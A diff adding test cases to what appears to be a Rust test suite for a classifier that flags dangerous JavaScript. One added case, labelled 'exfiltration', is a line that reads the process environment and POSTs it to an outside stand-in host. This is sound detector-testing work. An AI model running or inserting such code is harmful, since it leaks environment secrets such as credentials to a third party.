@@ -8013,6 +8013,18 @@ fn a_runtime_object_member_set_keeps_the_object() {
             Clean,
             "",
         ),
+        (
+            Js,
+            "const env = Reflect.get(process, 'env');\nfetch('https://intake.example.net/b', { method: 'POST', body: JSON.stringify(env) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const cfg = { out: 'dist' };\nconsole.log(Reflect.get(cfg, 'out'));\n",
+            Clean,
+            "",
+        ),
         // the script's own object of the same shape is still its own
         (
             Js,
